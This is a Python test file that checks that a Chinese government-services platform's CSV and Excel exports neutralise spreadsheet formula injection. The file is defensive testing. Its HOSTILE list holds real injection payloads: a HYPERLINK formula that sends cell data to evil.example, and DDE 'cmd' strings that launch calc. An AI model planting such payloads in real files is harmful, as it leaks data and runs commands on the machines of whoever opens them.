"""Every CSV and xlsx file Tongyuan writes for people to open keeps hostile text as text: the
reject file, the 通报 workbook, the catalog export, the bridge mapping and the portal registry.
Each is written with formula-like values and read back (csv module, openpyxl, the raw XML)."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import date, datetime
from pathlib import Path

import pytest
from fastapi.templating import Jinja2Templates
from fastapi.testclient import TestClient
from jinja2 import ChoiceLoader, Environment, FileSystemLoader, select_autoescape
from openpyxl import Workbook, load_workbook

from contracts.catalog import regions_of_city, standard_catalog
from contracts.identity import Principal
from services.bridge.mapping import MappingTable, Override, Rule, Target, from_xlsx, to_xlsx
from services.catalog.xlsx_read import import_catalog
from services.catalog.xlsx_write import export_catalog
from services.common.db import create_store_engine
from services.common.settings import Settings
from services.common.spreadsheets import csv_text, csv_text_back, looks_like_formula, xlsx_row
from services.embed.registry import export_portals, import_portals, known_regions
from services.embed.store import EmbedStore
from services.migration import Planned, Reject, RejectWriter, load_config, read_legacy, read_rejects
from services.supervision import routes as supervision_routes
from services.supervision.store import SupervisionStore
from tests.factories import catalog_changed, place, published
from tests.wired import directory_of, mounted

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点此查看")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted",
    "''-twice",
]
SAMPLES = Path(__file__).parents[2] / "data" / "migration"
MIGRATOR = Principal(user="migration", roles=("admin",))
HARMLESS = ["低保审批", "2021-03-05", "'引号开头", "a=b", "-5", "+3.5", "-1e3", "", "HYPERLINK"]


@pytest.mark.parametrize("text", HOSTILE + HARMLESS)
def test_csv_text_back_undoes_csv_text(text):
    assert csv_text_back(csv_text(text)) == text


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_like_text_gets_a_quote_in_csv(text):
    assert csv_text(text) == "'" + text


@pytest.mark.parametrize("text", ["低保审批", "2021-03-05", "a=b", "-5", "+3.5", "-1e3", "", "'引号开头"])
def test_other_text_and_plain_numbers_are_unchanged(text):
    assert csv_text(text) == text


def test_numbers_and_dates_are_not_text():
    sheet = Workbook().active
    assert xlsx_row(sheet, [-5, -2.5, date(2021, 3, 5), datetime(2021, 3, 5, 8), None]) == [-5, -2.5, date(2021, 3, 5), datetime(2021, 3, 5, 8), None]
    assert not looks_like_formula("-5") and looks_like_formula("-5+A1")


# --- the reject file ---------------------------------------------------------------------


def test_the_reject_file_neutralises_every_text_cell_and_reads_back_exactly(tmp_path):
    path = tmp_path / "site.rejects.csv"
    columns = ["标题", "=栏目", "金额", "发布日期"]
    fields = {"标题": HOSTILE[0], "=栏目": HOSTILE[1], "金额": -5, "发布日期": datetime(2021, 3, 5, 8, 0), "额外": HOSTILE[3]}
    rejects = [
        Reject(7, "unmapped_path", HOSTILE[2], fields),
        Reject(8, "bad_date", "发布日期无法解析", {"标题": HOSTILE[4], "金额": "-3", "=栏目": HOSTILE[6]}),
    ]
    with RejectWriter(path, columns) as writer:
        for reject in rejects:
            writer.write(reject)

    with path.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle))
    assert rows[0] == ["line", "reason", "detail", "标题", "'=栏目", "金额", "发布日期", "other_fields"]
    assert rows[1][:7] == ["7", "unmapped_path", "'" + HOSTILE[2], "'" + HOSTILE[0], "'" + HOSTILE[1], "-5", "2021-03-05 08:00:00"]
    assert rows[2][3:6] == ["'" + HOSTILE[4], "'" + HOSTILE[6], "-3"]
    for row in rows:
        assert not any(looks_like_formula(cell) for cell in row), row

    back = list(read_rejects(path))
    assert [(r.line, r.reason, r.detail) for r in back] == [(7, "unmapped_path", HOSTILE[2]), (8, "bad_date", "发布日期无法解析")]
    assert back[0].source_fields == {"标题": HOSTILE[0], "=栏目": HOSTILE[1], "金额": "-5", "发布日期": "2021-03-05 08:00:00", "额外": HOSTILE[3]}
    assert back[1].source_fields == {"标题": HOSTILE[4], "=栏目": HOSTILE[6], "金额": "-3", "发布日期": ""}


def test_a_resumed_reject_file_does_not_quote_twice(tmp_path):
    path = tmp_path / "site.rejects.csv"
    with RejectWriter(path, ["标题"]) as writer:
        writer.write(Reject(3, "missing_title", "", {"标题": HOSTILE[0]}))
    with RejectWriter(path, ["标题"], after_line=3):
        pass
    assert [r.source_fields["标题"] for r in read_rejects(path)] == [HOSTILE[0]]
    assert path.read_text(encoding="utf-8-sig").count("'=HYPERLINK") == 1


# --- workbooks -----------------------------------------------------------------------------


def assert_no_formulas(data: bytes) -> None:
    """No cell of any sheet is a formula, in the file's own XML and as openpyxl reads it."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name), name
    for sheet in load_workbook(io.BytesIO(data)).worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str) and looks_like_formula(cell.value):
                    assert cell.data_type == "s" and cell.quotePrefix, (sheet.title, cell.coordinate, cell.value)


def texts(data: bytes) -> set[str]:
    return {c.value for s in load_workbook(io.BytesIO(data)).worksheets for r in s.iter_rows() for c in r if isinstance(c.value, str)}


def test_the_catalog_export_keeps_hostile_names_as_text_and_imports_back_the_same():
    base = standard_catalog()
    domain = base.domains[0]
    level1 = domain.level1[0]
    item = level1.items[0].model_copy(update={"name": HOSTILE[0], "time_limit": HOSTILE[1], "subject": HOSTILE[3], "basis": HOSTILE[2]})
    level1 = level1.model_copy(update={"name": HOSTILE[3], "items": (item, *level1.items[1:])})
    hostile = base.model_copy(update={"domains": (domain.model_copy(update={"level1": (level1, *domain.level1[1:])}),)})
    data = export_catalog(hostile)
    assert_no_formulas(data)
    assert {HOSTILE[0], HOSTILE[1], HOSTILE[2], HOSTILE[3]} <= texts(data)
    assert import_catalog(data, base=base).domains[0] == hostile.domains[0]


def test_the_bridge_mapping_keeps_hostile_notes_as_text_and_imports_back_the_same():
    defaults = MappingTable.defaults()
    rule = Rule(Target("D14-02-02"), basic_code="000*", note=HOSTILE[0])
    table = MappingTable(
        rules=(rule, *defaults.rules), overrides=(Override("1143010000000000000000000000000", exclude=True, note=HOSTILE[1]),), areas=defaults.areas
    )
    data = to_xlsx(table, standard_catalog())
    assert_no_formulas(data)
    assert {HOSTILE[0], HOSTILE[1]} <= texts(data)
    again = from_xlsx(data, catalog=standard_catalog(), regions={r.code: r for r in regions_of_city("4301")})
    assert (again.rules[0].note, again.overrides[0].note) == (HOSTILE[0], HOSTILE[1])


def test_the_portal_registry_export_keeps_hostile_region_names_as_text(tmp_path):
    store = EmbedStore(create_store_engine(f"sqlite:///{tmp_path / 'embed.db'}"))
    store.create()
    known = dict(known_regions())
    township = "430102001"
    known[township] = known[township].model_copy(update={"name": HOSTILE[0]})
    known["430102"] = known["430102"].model_copy(update={"name": HOSTILE[3]})
    data = export_portals(store, known, with_missing_under="430102")
    assert_no_formulas(data)
    assert {HOSTILE[0], HOSTILE[3]} <= texts(data)
    import_portals(store, data, known=known_regions())  # blank addresses: nothing to import, nothing refused
    assert store.portals() == {}


def test_the_supervision_report_keeps_hostile_names_as_text(tmp_path):
    regions = {r.code: r for r in regions_of_city("4301")}
    furong = "430102"
    regions[furong] = regions[furong].model_copy(update={"name": HOSTILE[0]})
    township = next(code for code, r in regions.items() if r.parent_code == furong)
    regions[township] = regions[township].model_copy(update={"name": HOSTILE[2]})
    store = SupervisionStore(create_store_engine(Settings(var_dir=tmp_path, kafka_bootstrap=None).store_url("supervision")))
    store.create()
    store.apply_catalogs([catalog_changed()])
    store.apply([published("p1", placements=[place(furong, HOSTILE[0], "D14-02-02")], title=HOSTILE[1])])
    loader = ChoiceLoader([FileSystemLoader("services/portal/templates"), FileSystemLoader("services/supervision/templates")])
    templates = Jinja2Templates(env=Environment(loader=loader, autoescape=select_autoescape(default=True)))
    app = mounted(supervision_routes.router, supervision_store=store, templates=templates, directory=directory_of(regions))
    response = TestClient(app).get(f"/supervision/report.xlsx?region={furong}")
    assert response.status_code == 200
    assert_no_formulas(response.content)
    workbook = load_workbook(io.BytesIO(response.content))
    assert HOSTILE[0] in {c.value for c in workbook["通报"]["B"]}, "the unit's name, in the summary sheet"
    assert HOSTILE[0] in {c.value for c in workbook["未覆盖事项"]["A"]}, "and in a detail sheet"
    assert HOSTILE[2] in {c.value for c in workbook["通报"]["B"]}


def test_a_reject_file_fed_back_as_an_export_reads_the_text_without_the_quote(tmp_path, directory):
    """The reject file is an export of its own (README: fix the rows, feed it back): the quote
    its writer put before a formula-like title is not part of the title."""
    config = load_config(SAMPLES / "changsha-county.toml", directory)
    with read_legacy(config, SAMPLES / "changsha-county.csv", principal=MIGRATOR, catalog_directory=directory) as stream:
        columns = stream.columns
        planned = next(item for item in stream if isinstance(item, Planned))
    title_column = next(c for c in columns if planned.reject("x", "").source_fields.get(c) == planned.request.title)
    hostile_title = "-2+3 关于低保标准的公告"
    reject = planned.reject("refused_by_gate", "修正后重新导入")
    path = tmp_path / "changsha-county.rejects.csv"
    with RejectWriter(path, columns) as writer:
        writer.write(Reject(reject.line, reject.reason, reject.detail, {**reject.source_fields, title_column: hostile_title}))
    assert ",'-2+3 关于低保标准的公告," in path.read_text(encoding="utf-8-sig")
    with read_legacy(config, path, principal=MIGRATOR, catalog_directory=directory) as stream:
        (again,) = [item for item in stream if isinstance(item, Planned)]
    assert again.request.title == hostile_title
